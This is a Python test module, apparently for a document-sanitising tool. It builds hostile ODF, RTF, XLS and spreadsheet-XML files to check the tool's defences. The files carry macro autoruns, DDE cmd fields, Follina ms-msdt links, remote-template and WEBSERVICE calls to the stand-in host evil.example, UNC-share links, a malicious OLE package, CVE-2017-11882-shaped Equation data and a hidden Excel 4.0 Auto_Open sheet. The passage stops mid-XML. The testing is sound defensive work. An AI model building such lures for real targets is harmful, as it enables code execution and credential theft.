"""An outsider's attacks on the legacy and foreign office paths: .doc/.dot, .xls/.xlt,
.ppt/.pps, RTF, OpenDocument, Excel 2003 XML and HTML tables under an Excel name (all
converted by LibreOffice, then rebuilt), and text, CSV and TSV.

Each hostile file is built the way the formats allow it (MS-DOC/MS-XLS/MS-PPT through
LibreOffice's own writers, RTF 1.9.1 and ODF 1.2 by hand, RFC 4180 text) or the way a public
write-up delivered it (DDEAUTO 2017, \\objdata packages, Equation Editor objects, template
injection, Follina's ms-msdt:, search-ms:, CSV injection), and goes through the real CLI as an
operator runs it. Every released file is judged by an allow-list inspector written here from
ECMA-376, not from cdr's code, with oletools (olevba, msodde) as a second opinion. Quarantine
is a fine answer to an attack; a released file carrying something active is a crossing, and
so are a traceback and a hang. Four benign files must come out with their content.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

from tests.test_attacks_spreadsheet_html import sanitize

ROOT = Path(__file__).resolve().parent.parent
EVIL = "evil.example"
UNC = "\\\\evil.example\\share"
BENIGN = "市民課の案内 benign text stays"  # planted in every hostile document: the rebuild keeps it
PASSWORD = "himitsu-2026"


# ============================================================================ OpenDocument
NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
    "presentation": "urn:oasis:names:tc:opendocument:xmlns:presentation:1.0",
    "of": "urn:oasis:names:tc:opendocument:xmlns:of:1.2",
    "ooo": "http://openoffice.org/2004/office",
    "oooc": "http://openoffice.org/2004/calc",
    "dom": "http://www.w3.org/2001/xml-events",
    "calcext": "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0",
}
DECLS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NS.items())
MIMETYPES = {
    "text": "application/vnd.oasis.opendocument.text",
    "spreadsheet": "application/vnd.oasis.opendocument.spreadsheet",
    "presentation": "application/vnd.oasis.opendocument.presentation",
}
BASIC_MODULE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<script:module xmlns:script="http://openoffice.org/2000/script" '
    'script:name="Module1" script:language="StarBasic">Sub Main\n Shell("calc.exe")\nEnd Sub\n</script:module>'
)
BASIC_FILES = {
    "Basic/script-lc.xml": '<?xml version="1.0" encoding="UTF-8"?>\n<library:libraries '
    'xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<library:library library:name="Standard" library:link="false"/></library:libraries>',
    "Basic/Standard/script-lb.xml": '<?xml version="1.0" encoding="UTF-8"?>\n<library:library '
    'xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" '
    'library:passwordprotected="false"><library:element library:name="Module1"/></library:library>',
    "Basic/Standard/Module1.xml": BASIC_MODULE,
}
MACRO_URL = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"


def listener(event: str, href: str = MACRO_URL) -> str:
    return f'<script:event-listener script:language="ooo:script" script:event-name="{event}" xlink:href="{href}"/>'


def odf_package(kind: str, body: str, scripts: str = "", extra: dict[str, bytes | str] | None = None) -> bytes:
    """A packaged ODF 1.2 document (mimetype first, stored) with a Basic library beside it."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {DECLS} office:version="1.2">'
        f"{scripts}<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    files: dict[str, bytes | str] = {"content.xml": content, **BASIC_FILES, **(extra or {})}
    manifest = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{"text/xml" if name.endswith(".xml") else ""}"/>'
        for name in files
    )
    files["META-INF/manifest.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{MIMETYPES[kind]}"/>{manifest}'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr(zipfile.ZipInfo("mimetype"), MIMETYPES[kind], zipfile.ZIP_STORED)
        for name, data in files.items():
            package.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


DOCUMENT_EVENTS = (
    f"<office:scripts><office:event-listeners>{listener('dom:load')}{listener('office:new')}"
    f"</office:event-listeners></office:scripts>"
)


FORMS = (
    '<office:forms><form:form form:name="Form"><form:button form:name="b" xml:id="control1" form:id="control1"'
    ' form:label="OK" form:button-type="push"><office:event-listeners>'
    f"{listener('form:performaction')}{listener('dom:mouseover')}</office:event-listeners></form:button>"
    '<form:text form:name="t" xml:id="control2" form:id="control2"><office:event-listeners>'
    f"{listener('dom:focus')}</office:event-listeners></form:text></form:form></office:forms>"
)
CONTROLS = (
    '<text:p><draw:control text:anchor-type="as-char" svg:width="3cm" svg:height="1cm" draw:control="control1"/>'
    '<draw:control text:anchor-type="as-char" svg:width="3cm" svg:height="1cm" draw:control="control2"/></text:p>'
)
ODD_LINKS = [  # no scheme, or one written so that a naive reader misses it: each is a file or a share
    "../../../Windows/System32/calc.exe", "x.exe", f"//{EVIL}/share/x.exe", f"%5C%5C{EVIL}%5Cshare%5Cx.exe",
    "FILE:///C:/Windows/System32/calc.exe", " file:///C:/Windows/System32/calc.exe",
    f"http:\\\\{EVIL}\\share\\x.exe", "ms-word:ofe|u|http://evil.example/x.docx",
]


# ODF 1.2 §4.3.2.8: the template a document was made from; LibreOffice writes it out as Word's
# attached template, which Word fetches on opening (remote template injection)
TEMPLATE_META = (
    f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {DECLS} '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" office:version="1.2"><office:meta>'
    f'<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="http://{EVIL}/t.dotm" '
    'xlink:title="t"/></office:meta></office:document-meta>'
)


def odt_active() -> bytes:
    """ODF 1.2 §9–§19: every way a text document can act or reach out when opened or clicked:
    Basic with document events, form controls with events, a DDE connection, a macro field,
    links to programs, shares and odd schemes, linked pictures, plug-ins, frames, a linked section."""
    odd = "".join(f'<text:a xlink:type="simple" xlink:href="{href}">odd{i}</text:a> ' for i, href in enumerate(ODD_LINKS))
    body = (
        FORMS
        + "<text:dde-connection-decls><text:dde-connection-decl office:name=\"calc\" office:dde-application=\"cmd\""
        ' office:dde-topic="/c calc.exe" office:dde-item="A0" office:automatic-update="true"/>'
        "</text:dde-connection-decls>"
        f"<text:p>{BENIGN}</text:p>{CONTROLS}"
        '<text:p>dde <text:dde-connection text:connection-name="calc">0</text:dde-connection></text:p>'
        '<text:p>macro <text:execute-macro text:name="Standard.Module1.Main">押してください</text:execute-macro></text:p>'
        '<text:p><text:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">file link</text:a> '
        '<text:a xlink:type="simple" xlink:href="javascript:alert(1)">js link</text:a> '
        '<text:a xlink:type="simple" xlink:href="ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=calc&quot;">msdt</text:a> '
        f'<text:a xlink:type="simple" xlink:href="search-ms:query=invoice&amp;crumb=location:{UNC}">search</text:a> '
        f'<text:a xlink:type="simple" xlink:href="{MACRO_URL}">macro link</text:a> '
        f'<text:a xlink:type="simple" xlink:href="{UNC}\\x.exe">unc link</text:a> '
        '<text:a xlink:type="simple" xlink:href="https://www.city.example.lg.jp/">web link</text:a></text:p>'
        f"<text:p>{odd}</text:p>"
        '<text:p><text:a xlink:type="simple" xlink:href="https://ok.example/"><office:event-listeners>'
        f"{listener('dom:click')}</office:event-listeners>clicked</text:a></text:p>"
        '<text:p><draw:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">'
        '<draw:frame draw:name="boxed" text:anchor-type="as-char" svg:width="2cm" svg:height="1cm">'
        "<draw:text-box><text:p>box</text:p></draw:text-box></draw:frame></draw:a></text:p>"
        '<text:p><draw:frame draw:name="linked" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">'
        f'<draw:image xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="file://{EVIL}/share/x.png"/>'
        "</draw:frame></text:p>"
        '<text:p><draw:frame draw:name="plugin" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">'
        f'<draw:plugin xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="http://{EVIL}/x.swf"/>'
        "</draw:frame></text:p>"
        '<text:p><draw:frame draw:name="frame" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">'
        f'<draw:floating-frame xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="http://{EVIL}/"/>'
        "</draw:frame></text:p>"
        '<text:section text:name="ddesection"><office:dde-source office:dde-application="cmd" '
        'office:dde-topic="/c calc.exe section" office:dde-item="A0" office:automatic-update="true"/>'
        "<text:p>dde section</text:p></text:section>"
        f'<text:p><text:database-display text:database-name="{UNC}\\db.mdb" text:table-name="t" '
        'text:table-type="table" text:column-name="c">merge</text:database-display> '
        '<text:bibliography-mark text:identifier="b1" text:bibliography-type="www" '
        'text:url="file:///C:/Windows/System32/calc.exe" text:title="t">[1]</text:bibliography-mark></text:p>'
        '<text:section text:name="linked"><text:section-source xlink:type="simple" '
        f'xlink:href="file://{EVIL}/share/x.odt" text:filter-name="writer8"/><text:p>section</text:p></text:section>'
    )
    return odf_package("text", body, DOCUMENT_EVENTS, {"meta.xml": TEMPLATE_META})


def odt_embedded_ole(ole: bytes) -> bytes:
    """An OLE object (here an .xls carrying VBA) embedded in a text document (ODF 1.2 §10.4.6)."""
    body = (
        f"<text:p>{BENIGN}</text:p>"
        '<text:p><draw:frame draw:name="Object1" text:anchor-type="as-char" svg:width="4cm" svg:height="2cm">'
        '<draw:object-ole draw:class-id="00020820-0000-0000-C000-000000000046" xlink:type="simple" '
        'xlink:show="embed" xlink:actuate="onLoad" xlink:href="./Object 1"/></draw:frame></text:p>'
    )
    return odf_package("text", body, "", {"Object 1": ole})


def ods_active() -> bytes:
    """ODF 1.2 §9.4 and OpenFormula: formulas, names, links and DDE that act or reach out."""
    cells = [
        ("web", f'of:=WEBSERVICE(&quot;http://{EVIL}/x&quot;)'),
        ("filterxml", f'of:=FILTERXML(WEBSERVICE(&quot;http://{EVIL}/x&quot;);&quot;//a&quot;)'),
        ("dde", 'of:=DDE(&quot;cmd&quot;;&quot;/c calc.exe&quot;;&quot;A0&quot;)'),
        ("link_file", 'of:=HYPERLINK(&quot;file:///C:/Windows/System32/calc.exe&quot;;&quot;open&quot;)'),
        ("link_unc", f'of:=HYPERLINK(&quot;{UNC}\\x.exe&quot;;&quot;share&quot;)'),
        ("link_msdt", 'of:=HYPERLINK(&quot;ms-msdt:/id PCWDiagnostic /skip force&quot;;&quot;help&quot;)'),
        ("link_built", f'of:=HYPERLINK(&quot;\\\\&quot;&amp;&quot;{EVIL}\\share\\x.exe&quot;;&quot;built&quot;)'),
        ("call", 'of:=CALL(&quot;kernel32&quot;;&quot;WinExec&quot;;&quot;JCJ&quot;;&quot;calc&quot;;0)'),
        ("register", 'of:=REGISTER.ID(&quot;kernel32&quot;;&quot;WinExec&quot;;&quot;JCJ&quot;)'),
        ("exec", 'of:=EXEC(&quot;calc.exe&quot;)'),
        ("udf", "of:=MAIN(1)"),
        ("external", f"of:=['file://{EVIL}/share/book.ods'#$Sheet1.A1]"),
        ("sum", "of:=SUM([.B2:.B3])"),
    ] + [(f"odd{i}", f"of:=HYPERLINK(&quot;{href}&quot;;&quot;odd{i}&quot;)") for i, href in enumerate(ODD_LINKS)]
    rows = "".join(
        f'<table:table-row><table:table-cell office:value-type="string"><text:p>{name}</text:p></table:table-cell>'
        f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="12">'
        "<text:p>12</text:p></table:table-cell></table:table-row>"
        for name, formula in cells
    )
    body = (
        "<table:content-validations><table:content-validation table:name=\"val1\" "
        "table:condition=\"of:cell-content-is-whole-number()\"><table:error-macro table:execute=\"true\">"
        f"<office:event-listeners>{listener('office:validation-error')}</office:event-listeners>"
        "</table:error-macro></table:content-validation>"
        '<table:content-validation table:name="val2" table:condition="of:cell-content-is-in-list('
        f'WEBSERVICE(&quot;http://{EVIL}/list&quot;))" table:allow-empty-cell="true" table:display-list="unsorted"/>'
        "</table:content-validations>"
        '<table:table table:name="Sheet1">'
        f'<table:table-row><table:table-cell office:value-type="string"><text:p>{BENIGN}</text:p></table:table-cell>'
        '<table:table-cell table:content-validation-name="val1" office:value-type="float" office:value="1">'
        "<text:p>1</text:p></table:table-cell></table:table-row>"
        f"{rows}"
        '<table:table-row><table:table-cell office:value-type="string"><text:p>'
        '<text:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">cell link</text:a>'
        "</text:p></table:table-cell><table:table-cell office:value-type=\"string\"><text:p>"
        f'<text:a xlink:type="simple" xlink:href="{MACRO_URL}">macro link</text:a></text:p></table:table-cell>'
        "</table:table-row>"
        '<table:table-row><table:table-cell table:content-validation-name="val2" office:value-type="string">'
        "<text:p>list</text:p><office:annotation><text:p>メモ: 確認済み</text:p></office:annotation>"
        "</table:table-cell></table:table-row>"
        '<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="Sheet1.B2:Sheet1.B3">'
        f'<calcext:condition calcext:apply-style-name="Default" calcext:value="formula-is(WEBSERVICE(&quot;http://{EVIL}/cf&quot;))"'
        ' calcext:base-cell-address="Sheet1.B2"/></calcext:conditional-format></calcext:conditional-formats>'
        "</table:table>"
        '<table:table table:name="Linked"><table:table-source xlink:type="simple" '
        f'xlink:href="file://{EVIL}/share/book.ods" table:mode="copy-all" table:table-name="Sheet1"/>'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>linked</text:p>'
        "</table:table-cell></table:table-row></table:table>"
        "<table:named-expressions>"
        '<table:named-range table:name="Auto_Open" table:base-cell-address="$Sheet1.$A$1" '
        'table:cell-range-address="$Sheet1.$B$2"/>'
        f'<table:named-expression table:name="Auto_Close" table:base-cell-address="$Sheet1.$A$1" '
        f'table:expression="of:=WEBSERVICE(&quot;http://{EVIL}/close&quot;)"/>'
        "</table:named-expressions>"
        "<table:dde-links><table:dde-link><office:dde-source office:dde-application=\"cmd\" "
        'office:dde-topic="/c calc.exe" office:dde-item="A0" office:conversion-mode="into-english-number"/>'
        '<table:table><table:table-column/><table:table-row><table:table-cell office:value-type="float" '
        'office:value="0"/></table:table-row></table:table></table:dde-link></table:dde-links>'
    )
    return odf_package("spreadsheet", body, DOCUMENT_EVENTS)


def odp_active() -> bytes:
    """ODF 1.2 §9.9 (presentation:event-listener) and §10: clicks that run programs or macros."""
    def shape(name: str, events: str, text: str) -> str:
        return (
            f'<draw:frame draw:name="{name}" svg:x="2cm" svg:y="{2 + 3 * len(name) % 12}cm" svg:width="8cm" svg:height="2cm">'
            f"<draw:text-box><text:p>{text}</text:p></draw:text-box>"
            f"<office:event-listeners>{events}</office:event-listeners></draw:frame>"
        )

    program = (
        '<presentation:event-listener script:event-name="dom:click" presentation:action="execute" '
        'xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe"/>'
    )
    document = (
        '<presentation:event-listener script:event-name="dom:click" presentation:action="show" '
        f'xlink:type="simple" xlink:href="{UNC}\\x.ppt"/>'
    )
    web = (
        '<presentation:event-listener script:event-name="dom:click" presentation:action="show" '
        'xlink:type="simple" xlink:href="ms-msdt:/id PCWDiagnostic /skip force"/>'
    )
    sound = (
        '<presentation:event-listener script:event-name="dom:click" presentation:action="sound">'
        f'<presentation:sound xlink:type="simple" xlink:href="file://{EVIL}/share/x.wav" xlink:show="new" '
        'xlink:actuate="onRequest"/></presentation:event-listener>'
    )
    odd = "".join(
        '<presentation:event-listener script:event-name="dom:click" presentation:action="show" '
        f'xlink:type="simple" xlink:href="{href}"/>' for href in ODD_LINKS[:3]
    )
    body = (
        '<draw:page draw:name="p1">'
        + shape("eeeee", sound, "sound")
        + shape("ffffff", odd, "odd")
        + shape("ggggggg", "", '<text:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/calc.exe">'
                "text link</text:a> <text:a xlink:type=\"simple\" xlink:href=\"../../x.exe\">relative</text:a>")
        + shape("a", program, BENIGN)
        + shape("bb", listener("dom:click"), "macro")
        + shape("ccc", document, "share")
        + shape("dddd", web, "msdt")
        + '<draw:frame draw:name="plugin" svg:x="1cm" svg:y="14cm" svg:width="2cm" svg:height="2cm">'
        f'<draw:plugin xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="file://{EVIL}/share/x.mp4"'
        ' draw:mime-type="application/vnd.sun.star.media"/></draw:frame></draw:page>'
    )
    return odf_package("presentation", body, DOCUMENT_EVENTS)


# ============================================================================ RTF 1.9.1
def rtf_text(text: str) -> str:
    """Japanese as RTF writes it: \\'xx escapes of its Shift_JIS bytes."""
    return "".join(
        c if c.isascii() and c not in "\\{}" else "".join(f"\\'{b:02x}" for b in c.encode("cp932")) for c in text
    )


def rtf_doc(body: str, head: str = "") -> bytes:
    return (
        "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fnil\\fcharset128 MS Mincho;}}"
        f"{head}\\pard {rtf_text(BENIGN)}\\par {body}\\par}}"
    ).encode("ascii")


def field(instruction: str, result: str = "result") -> str:
    return f"{{\\field{{\\*\\fldinst {instruction}}}{{\\fldrslt {result}}}}}"


def ole1(class_name: bytes, native: bytes) -> bytes:
    """An OLE 1.0 embedded object as \\objdata carries it (MS-OLEDS 2.2.4)."""
    return (
        (0x0501).to_bytes(4, "little") + (2).to_bytes(4, "little")
        + (len(class_name) + 1).to_bytes(4, "little") + class_name + b"\0"
        + b"\0" * 8 + len(native).to_bytes(4, "little") + native
    )


def package_shelllink() -> bytes:
    """An OLE Package (packager.dll) holding a .lnk and an .exe: the 2014–2017 lure."""
    name, path = b"invoice.pdf.lnk", b"C:\\Users\\Public\\invoice.pdf.lnk"
    payload = b"L\0\0\0\x01\x14\x02\0" + b"\0" * 68 + b"MZ\x90\0" + b"\0" * 60
    native = (
        b"\x02\x00" + name + b"\0" + path + b"\0" + b"\0\0\x03\0"
        + (len(path) + 1).to_bytes(4, "little") + path + b"\0"
        + len(payload).to_bytes(4, "little") + payload
    )
    return ole1(b"Package", len(native).to_bytes(4, "little") + native)


def equation_native() -> bytes:
    """Equation Editor 3.0 data shaped like CVE-2017-11882: a font name record that overflows."""
    header = (0x1C).to_bytes(2, "little") + (0x20000).to_bytes(4, "little") + b"\0" * 22
    mtef = b"\x03\x01\x01\x03\x0a" + b"\x08\x5a\x5a" + b"A" * 44 + (0x00430C12).to_bytes(4, "little") + b"\0"
    return ole1(b"Equation.3", header + mtef)


def rtf_object(klass: str, data: bytes, flags: str = "\\objemb\\objupdate") -> str:
    hexdata = data.hex()
    # split across lines and with whitespace inside, as RTF allows and hand-made lures do
    spread = "\r\n".join(hexdata[i : i + 64] for i in range(0, len(hexdata), 64))
    return (
        f"{{\\object{flags}\\objw2000\\objh600{{\\*\\objclass {klass}}}{{\\*\\objdata {spread}}}"
        "{\\result {\\pict\\pngblip\\picw1\\pich1 89504e47}}}"
    )


def word_path(path: str) -> str:
    """A Windows path as a field instruction quotes it (backslashes doubled), escaped for RTF."""
    return path.replace("\\", "\\\\").replace("\\", "\\\\")


CMD = word_path("C:\\Windows\\System32\\cmd.exe")


def dde(where: str) -> str:
    return field(f'DDEAUTO {CMD} "/c calc.exe {where}"')


SHARE = word_path(UNC)
# Fields in every story a document has (body, header, footer, footnote, endnote, comment,
# text box), and the keyword disguised the ways Word undoes: split into groups, \'xx and \u
# escapes, built by a nested QUOTE field; every kind that reaches out (MS-DOC 2.9.82 flt)
RTF_FIELDS = rtf_doc(
    dde("body")
    + "{\\field{\\*\\fldinst {\\rtlch D}{DE}{AUTO} cmd \"/c calc split\"}{\\fldrslt x}}"
    + field("\\'44\\'44\\'45 cmd \"/c calc\" A0")
    + field("\\u68?\\u68?\\u69?AUTO cmd \"/c calc unicode\"")
    + "{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}{\\fldrslt DDEAUTO}}"
    " cmd \"/c calc quote\"}{\\fldrslt x}}"
    + field(f'INCLUDEPICTURE "{SHARE}\\\\\\\\x.png" \\\\d')
    + field(f'INCLUDETEXT "{SHARE}\\\\\\\\x.docx"')
    + field(f'IMPORT "{SHARE}\\\\\\\\x.wmf"')
    + field(f'LINK Excel.Sheet.8 "{SHARE}\\\\\\\\x.xls" "Sheet1!R1C1" \\\\a')
    + field('HYPERLINK "file:///C:/Windows/System32/calc.exe"', "file")
    + field('HYPERLINK "ms-msdt:/id PCWDiagnostic /skip force /param \\"IT_BrowseForFile=calc\\""', "msdt")
    + field(f'HYPERLINK "search-ms:query=invoice&crumb=location:{SHARE}"', "search")
    + field('HYPERLINK "javascript:alert(1)"', "js")
    + field(f'HYPERLINK "{SHARE}\\\\\\\\x.exe"', "unc")
    + field(f'HYPERLINK "//{EVIL}/share/x.exe"', "scheme-relative")
    + field('HYPERLINK "..\\\\..\\\\Windows\\\\System32\\\\calc.exe"', "relative")
    + field('HYPERLINK "invoice.exe"', "relative to the base")
    + field("MACROBUTTON Main " + rtf_text("押す"))
    + "text{\\super\\chftn}{\\footnote\\pard\\plain{\\super\\chftn} " + dde("footnote") + "}"
    + "end{\\super\\chftn}{\\footnote\\ftnalt\\pard\\plain{\\super\\chftn} " + dde("endnote") + "}"
    + "{\\*\\atnid cdr}{\\*\\atnauthor cdr}\\chatn{\\*\\annotation\\pard " + dde("comment") + "}"
    + "{\\shp{\\*\\shpinst\\shpleft0\\shptop0\\shpright3000\\shpbottom1000{\\sp{\\sn shapeType}{\\sv 202}}"
    + "{\\shptxt\\pard " + dde("textbox") + "\\par}}}"
    + "{\\shp{\\*\\shpinst\\shpleft0\\shptop2000\\shpright2000\\shpbottom4000{\\sp{\\sn shapeType}{\\sv 75}}"
    f"{{\\sp{{\\sn pibName}}{{\\sv {UNC.replace(chr(92), chr(92) * 2)}\\\\x.png}}}}"
    "{\\sp{\\sn pibFlags}{\\sv 10}}}}",
    head=f"{{\\info{{\\hlinkbase {UNC.replace(chr(92), chr(92) * 2)}\\\\}}}}"  # relative links resolve against a share
    + "{\\header\\pard " + dde("header") + "\\par}{\\footer\\pard " + dde("footer") + "\\par}",
)
RTF_OBJECTS = rtf_doc(
    rtf_object("Package", package_shelllink())
    + rtf_object("Equation.3", equation_native())
    + rtf_object("Excel.Sheet.8", ole1(b"Excel.Sheet.8", b"\0" * 16), "\\objautlink\\objupdate")
)
RTF_TEMPLATE = rtf_doc("template", head=f"{{\\*\\template {UNC.replace(chr(92), chr(92) * 2)}\\\\t.dotm}}")


# ============================================================================ MS-XLS: an Excel 4.0 macro sheet
def biff_record(kind: int, payload: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(payload)) + payload


def biff_name(text: str) -> bytes:
    """ShortXLUnicodeString (MS-XLS 2.5.240): length, 8-bit flag, characters."""
    return bytes([len(text), 0]) + text.encode("latin-1")


def biff_bof(kind: int) -> bytes:  # BOF (2.4.21): BIFF8, the substream's kind
    return biff_record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x06))


def biff_formula(row: int, col: int, rgce: bytes) -> bytes:  # FORMULA (2.4.127), no cached value
    return biff_record(0x0006, struct.pack("<HHH", row, col, 15) + b"\0" * 8 + struct.pack("<HIH", 2, 0, len(rgce)) + rgce)


XLM_NUMBER = 4649.0  # the worksheet's one cell (a NUMBER record), which must come through


def xlm_workbook_stream() -> bytes:
    """The 2020–2022 Excel 4.0 lure: a very hidden macro sheet whose A1 runs EXEC("calc.exe"),
    started by the built-in name Auto_Open (MS-XLS 2.4.28 BoundSheet8 dt=1, 2.4.150 Lbl)."""
    exec_calc = b"\x17" + biff_name("calc.exe") + struct.pack("<BBH", 0x42, 1, 110)  # PtgStr, PtgFuncVar EXEC
    halt = struct.pack("<BBH", 0x42, 0, 54)  # HALT()
    macro = biff_bof(0x0040) + biff_formula(0, 0, exec_calc) + biff_formula(1, 0, halt) + biff_record(0x000A)
    sheet = (biff_bof(0x0010) + biff_record(0x0200, struct.pack("<IIHHH", 0, 1, 0, 1, 0))  # DIMENSIONS: A1
             + biff_record(0x0203, struct.pack("<HHHd", 0, 0, 15, XLM_NUMBER)) + biff_record(0x000A))
    auto_open = biff_record(0x0018, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, 7, 0, 0, 0, 0, 0, 0) + b"\x00\x01"
                            + b"\x3a" + struct.pack("<HHH", 0, 0, 0xC000))  # PtgRef3d Macro1!$A$1

    def workbook_globals(sheet_at: int, macro_at: int) -> bytes:
        return (biff_bof(0x0005) + biff_record(0x0042, struct.pack("<H", 1200))
                + biff_record(0x0085, struct.pack("<IBB", sheet_at, 0, 0) + biff_name("Sheet1"))
                + biff_record(0x0085, struct.pack("<IBB", macro_at, 2, 1) + biff_name("Macro1"))  # very hidden
                + biff_record(0x01AE, struct.pack("<HH", 2, 0x0401)) + biff_record(0x0017, struct.pack("<HHHH", 1, 0, 1, 1))
                + auto_open + biff_record(0x000A))

    start = len(workbook_globals(0, 0))
    return (workbook_globals(start, start + len(sheet)) + sheet + macro).ljust(4608, b"\0")


def compound_file(stream_name: str, data: bytes) -> bytes:
    """A version 3 compound file (MS-CFB) holding one stream of at least 4096 bytes, so that it
    lives in ordinary sectors: header, one FAT sector, one directory sector, the data."""
    assert len(data) % 512 == 0 and len(data) >= 4096
    sectors = len(data) // 512
    fat = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, 2 + sectors), 0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, start: int, size: int, clsid: bytes = b"\0" * 16) -> bytes:
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
                + clsid + b"\0" * 20 + struct.pack("<IQ", start, size))

    excel = bytes.fromhex("2008020000000000c000000000000046")  # CLSID_Excel
    directory = (entry("Root Entry", 5, 1, 0xFFFFFFFE, 0, excel) + entry(stream_name, 2, 0xFFFFFFFF, 2, len(data))
                 + entry("", 0, 0xFFFFFFFF, 0, 0) * 2)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<9I", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0)
              + struct.pack("<I", 0xFFFFFFFF) * 108)
    return header + struct.pack("<128I", *fat) + directory + data


# ============================================================================ spreadsheets as text
XML_2003 = f"""<?xml version="1.0" encoding="UTF-8"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:x="urn:schemas-microsoft-com:office:excel"
 xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
 <Names><NamedRange ss:Name="Auto_Open" ss:RefersTo="=Macro!R1C1"/>
  <NamedRange ss:Name="Auto_Activate" ss:RefersTo="=WEBSERVICE(&quot;http://{EVIL}/n&quot;)"/></Names>
 <Worksheet ss:Name="Sheet1"><Table>
  <Row><Cell><Data ss:Type="String">{BENIGN}</Data></Cell><Cell><Data ss:Type="Number">12</Data></Cell></Row>
  <Row><Cell ss:Formula="=WEBSERVICE(&quot;http://{EVIL}/x&quot;)"><Data ss:Type="String">w</Data></Cell>
   <Cell ss:Formula="=FILTERXML(WEBSERVICE(&quot;http://{EVIL}/x&quot;),&quot;//a&quot;)"><Data ss:Type="String">f</Data></Cell></Row>
  <Row><Cell ss:Formula="=HYPERLINK(&quot;file:///C:/Windows/System32/calc.exe&quot;,&quot;open&quot;)"><Data ss:Type="String">open</Data></Cell>
   <Cell ss:Formula="=HYPERLINK(&quot;ms-msdt:/id PCWDiagnostic&quot;,&quot;help&quot;)"><Data ss:Type="String">help</Data></Cell></Row>
  <Row><Cell ss:Formula="=CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)"><Data ss:Type="Number">0</Data></Cell>
   <Cell ss:Formula="=REGISTER.ID(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;)"><Data ss:Type="Number">0</Data></Cell>
   <Cell ss:Formula="=EXEC(&quot;calc.exe&quot;)"><Data ss:Type="Number">0</Data></Cell>
   <Cell ss:Formula="=cmd|' /C calc'!A0"><Data ss:Type="Number">0</Data></Cell></Row>
  <Row><Cell ss:HRef="{UNC}\\x.exe"><Data ss:Type="String">share</Data></Cell>
   <Cell ss:HRef="search-ms:query=x&amp;crumb=location:{UNC}"><Data ss:Type="String">search</Data></Cell>
   <Cell ss:HRef="javascript:alert(1)"><Data ss:Type="String">js</Data></Cell></Row>
 </Table></Worksheet>
 <Worksheet ss:Name="Macro"><Table>
